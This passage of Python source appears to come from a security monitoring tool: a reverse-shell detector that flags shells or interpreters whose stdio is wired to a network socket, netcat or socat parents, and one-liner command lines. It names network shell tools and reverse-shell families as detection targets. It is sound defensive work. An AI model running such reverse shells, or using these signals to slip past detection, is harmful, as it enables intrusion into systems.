        and against the program a family names (``socat``, ``nc``, ``python``). An
        inetd-style service script is the intended use; allowing ``sh`` blinds the detector.
    ``shells = []`` / ``interpreters = []``
        Extra program names, added to :data:`DEFAULT_SHELLS` / :data:`DEFAULT_INTERPRETERS`
        (an extra interpreter gets the structural and parent signals; inline code is read
        only for the built-in languages).
    ``max_tracked = 32768``
        Pids whose state is kept (oldest evicted first).

    Evidence: ``signal`` (structural, parent, cmdline), ``family``, ``program``, ``pid``,
    ``comm``, ``exe``, ``argv`` (at most 32 arguments of at most 512 characters;
    ``argv_more`` counts the rest), ``remote_host`` when known, ``socket`` (fd, proto, state,
    local, remote) for the structural signal, ``ancestry`` (pid, comm, exe of up to four
    parents) and ``parent_cmdline``, plus the family's own detail (``option``/``target``,
    ``exec``/``network``, ``redirection``, ``code``). MITRE: T1059 with the sub-technique
    of what the attacker gets to run (.004 Unix shell, .006 Python, .007 JavaScript, .011
    Lua), T1095 (a raw TCP/UDP channel), and T1573.002 when the relay speaks TLS.

    Raises:
        ConfigError: an unknown key, or a value of the wrong type or outside its set.
    """

    name: ClassVar[str] = "reverse_shell"
    consumes: ClassVar[frozenset[str]] = frozenset(
        {"proc.exec", "proc.comm", "proc.fork", "proc.exit"}
    )

    def __init__(self, config: Mapping[str, Any] | None = None) -> None:
        cfg = dict(config or {})
        known = {"one_liners", "dev_tcp_io", "allow_programs", "shells", "interpreters",
                 "max_tracked", "mode"}
        unknown = sorted(set(cfg) - known)
        if unknown:
            raise ConfigError(f"detectors.reverse_shell: unknown keys {unknown}; "
                              f"known: {sorted(known - {'mode'})}")
        self._one_liners = _level(cfg, "one_liners", "critical")
        self._dev_tcp_io = _level(cfg, "dev_tcp_io", "warning")
        self._allow = frozenset(_names(cfg, "allow_programs"))
        interpreters = dict(DEFAULT_INTERPRETERS)
        for extra in _names(cfg, "interpreters"):
            interpreters.setdefault(extra.lower(), "")
        shells = (*DEFAULT_SHELLS, *(s.lower() for s in _names(cfg, "shells")))
        max_tracked = cfg.get("max_tracked", 32768)
        if type(max_tracked) is not int or max_tracked < 1:
            raise ConfigError("detectors.reverse_shell.max_tracked: a positive integer")
        self._max = max_tracked
        self._m = _Matcher(shells, interpreters)
        self._procs: dict[int, _Proc] = {}

    # -- events

    def feed(self, ev: Event, now_ns: int) -> Iterable[Verdict]:
        """Take one process event; return at most one verdict."""
        if isinstance(ev, ProcExec):
            return self._exec(ev)
        if isinstance(ev, ProcComm):
            return self._comm(ev)
        if isinstance(ev, ProcFork):
            parent = self._procs.get(ev.ppid)
            if parent is not None:
                self._remember(ev.pid, parent.argv_key, parent.reported)
        elif isinstance(ev, ProcExit):
            self._procs.pop(ev.pid, None)
        return ()

    def _remember(self, pid: int, argv_key: int, reported: bool) -> None:
        procs = self._procs
        st = procs.get(pid)
        if st is not None:
            st.argv_key, st.reported = argv_key, reported or st.reported
            return
        while len(procs) >= self._max:
            del procs[next(iter(procs))]
        procs[pid] = _Proc(argv_key, reported)

    def _exec(self, ev: ProcExec) -> list[Verdict]:
        argv = _normalized(ev.argv)
        ident = self._identify(ev.exe, normalize(ev.comm), argv)
        signal, hit, sock = "structural", None, None
        if ident is not None:
            sock = next((fd for fd in ev.stdio if fd.fd in (0, 1) and fd.connected_inet), None)
            if sock is not None:
                name, kind = ident
                lang = "sh" if kind == "shell" else kind if kind in _CODE_LANGS else ""
                hit = _Hit("stdio-socket", name, _STRONG, lang, remote=_host_of(sock.remote))
        if hit is None and argv:
            signal, hit = "cmdline", self._m.judge(argv)
        if hit is None and ident is not None and ev.ancestry:
            parent = self._procs.get(ev.ancestry[0].pid)
            if parent is None or not parent.reported:
                signal, hit = "parent", self._parent(ev.ancestry[0])
        verdict = self._verdict(ev, argv, signal, hit, sock)
        self._remember(ev.pid, hash(ev.argv), verdict is not None)
        return [verdict] if verdict is not None else []

    def _comm(self, ev: ProcComm) -> list[Verdict]:
        # A comm change with an argv we have not judged: an exec we missed, or a busybox
        # NOEXEC applet of an unknown parent. Same argv as judged before: nothing new.
        st = self._procs.get(ev.pid)
        key = hash(ev.argv)
        if not ev.argv or (st is not None and st.argv_key == key):
            return []
        argv = _normalized(ev.argv)
        verdict = self._verdict(ev, argv, "cmdline", self._m.judge(argv), None)
        self._remember(ev.pid, key, verdict is not None)
        return [verdict] if verdict is not None else []

    # -- signals 1 and 2

    def _identify(self, exe: str, comm: str, argv: Sequence[str]) -> tuple[str, str] | None:
        """``(name, kind)`` when the process is a shell or an interpreter."""
        names = [exe, comm]
        if argv:
            names.append(argv[0])
            if len(argv) > 1 and self._m.lookup(argv[0])[1] == "busybox":
                names.append(argv[1])
        for word in names:
            if not word:
                continue
            name, kind = self._m.lookup(word)
            if kind == "shell" or kind == "interp" or kind in _CODE_LANGS:
                return name, kind
        return None

    def _parent(self, parent: Ancestor) -> _Hit | None:
        words = _normalized(tuple(parent.cmdline.split()))
        for word in (parent.exe, parent.comm, *words[:1]):
            name, kind = self._m.lookup(word)
            if kind == "nc":
                return _Hit("nc-exec", name, _STRONG,
                            remote=_relay_remote("nc", words[1:]) if words else "")
            if kind == "socat" and words:
                hit = self._m.judge(words, lossy=True)
                if hit is not None:
                    return hit
                if any(a.split(":", 1)[0].lower() in _SOCAT_NET for a in words[1:]):
                    return _Hit("socat-exec", "socat", _STRONG,
                                remote=_relay_remote("socat", words[1:]))
        return self._m.judge(words, lossy=True) if words else None

    # -- verdicts

    def _allowed(self, argv: Sequence[str], exe: str, comm: str, program: str) -> bool:
        allow = self._allow
        if not allow:
            return False
        names = {exe, base_name(exe), comm, program}
        if argv:
            names.update((argv[0], base_name(argv[0])))
            if len(argv) > 1 and not argv[1].startswith("-"):
                names.add(argv[1])
        return not allow.isdisjoint(names)

    def _verdict(
        self,
        ev: ProcExec | ProcComm,
        argv: Sequence[str],
        signal: str,
        hit: _Hit | None,
        sock: Fd | None,
    ) -> Verdict | None:
        if hit is None:
            return None
        if hit.strength == _STRONG:
            severity: Severity | None = Severity.CRITICAL
        else:
            severity = self._one_liners if hit.strength == _ONE_LINER else self._dev_tcp_io
        if severity is None:
            return None
        exe = ev.exe if isinstance(ev, ProcExec) else ""
        if self._allowed(argv, exe, ev.comm, hit.program):
            return None
        program, remote = _clip(hit.program, 64), _clip(hit.remote, 256)
        evidence: dict[str, Any] = {
            "signal": signal,
            "family": hit.family,
            "program": program,
            "pid": ev.pid,
            "comm": ev.comm,
            "argv": [_clip(a) for a in ev.argv[:_EVIDENCE_ARGS]],
        }
        if len(ev.argv) > _EVIDENCE_ARGS:
            evidence["argv_more"] = len(ev.argv) - _EVIDENCE_ARGS
        if remote:
            evidence["remote_host"] = remote
        evidence.update(hit.detail)
        title = f"Reverse shell ({hit.family}): {program}"
        if isinstance(ev, ProcExec):
            evidence["exe"] = ev.exe
            if ev.argv_truncated:
                evidence["argv_truncated"] = True
            evidence["ancestry"] = [
                {"pid": a.pid, "comm": a.comm, "exe": a.exe} for a in ev.ancestry[:4]
            ]
            if ev.ancestry:
                evidence["parent_cmdline"] = _clip(ev.ancestry[0].cmdline, 256)
        if sock is not None:
            evidence["socket"] = {"fd": sock.fd, "proto": sock.proto, "state": sock.state,
                                  "local": sock.local, "remote": sock.remote}
            title = f"Reverse shell: {program} with stdio on {sock.proto} {sock.remote}"
        mitre = [_MITRE_LANG.get(hit.lang, "T1059"), "T1095"]
        if hit.tls:
            mitre.append("T1573.002")
        return Verdict(
            ts_ns=ev.ts_ns,
            wall_ns=ev.wall_ns,
            container=ev.container,
            detector=self.name,
            title=title,
            severity=severity,
            evidence=evidence,
            mitre=tuple(mitre),
            dedup_key=f"reverse_shell:{ev.container}:{hit.family}:{program}:{remote}",
            event_kind=ev.kind,
            pid=ev.pid,
        )


def _normalized(argv: tuple[str, ...]) -> tuple[str, ...]:
    """``argv`` with every argument :func:`normalize`-d (one C-speed test when all ASCII)."""
    if "".join(argv).isascii():
        return argv
    return tuple(normalize(a) for a in argv)


def _level(cfg: Mapping[str, Any], key: str, default: str) -> Severity | None:
    value = cfg.get(key, default)
    if not isinstance(value, str) or value not in _LEVELS:
        raise ConfigError(f"detectors.reverse_shell.{key}: one of {sorted(_LEVELS)}, "
                          f"got {value!r}")
    return _LEVELS[value]


def _names(cfg: Mapping[str, Any], key: str) -> list[str]:
    value = cfg.get(key, [])
    if not isinstance(value, list | tuple) or not all(isinstance(v, str) and v for v in value):
        raise ConfigError(f"detectors.reverse_shell.{key}: a list of non-empty strings")
    return list(value)
